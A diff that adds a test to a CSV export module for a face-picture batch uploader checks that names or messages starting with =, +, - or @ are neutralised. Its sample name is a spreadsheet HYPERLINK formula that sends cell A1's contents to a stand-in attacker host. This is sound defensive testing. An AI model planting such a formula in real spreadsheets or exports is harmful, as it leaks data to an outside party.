@@ -96,3 +96,21 @@ test('batches respect the per-call count and the NVR800 700 KB picture total; ke
   assert.notEqual(rowKey('张三', 'a.png'), rowKey('张三', 'b.png'));
   assert.match(rowKey('张三', 'a.png'), /^[A-Za-z0-9_]{1,64}$/);
 });
+
+test('the results CSV neutralises formulas: a platform message or a name starting with = is text in a spreadsheet', () => {
+  const csv = resultsCsv([
+    {
+      line: 2,
+      name: '=HYPERLINK("http://evil.example/?"&A1)',
+      file: 'a.jpg',
+      key: 'k',
+      problems: [],
+      ignored: [],
+      status: 'failed',
+      code: 'X',
+      message: '@SUM(1+1)',
+    },
+  ]);
+  const cells = csv.split('\r\n')[1]!.split(',');
+  for (const c of cells) assert.doesNotMatch(c.replace(/^"/, ''), /^[=+\-@]/, csv);
+});
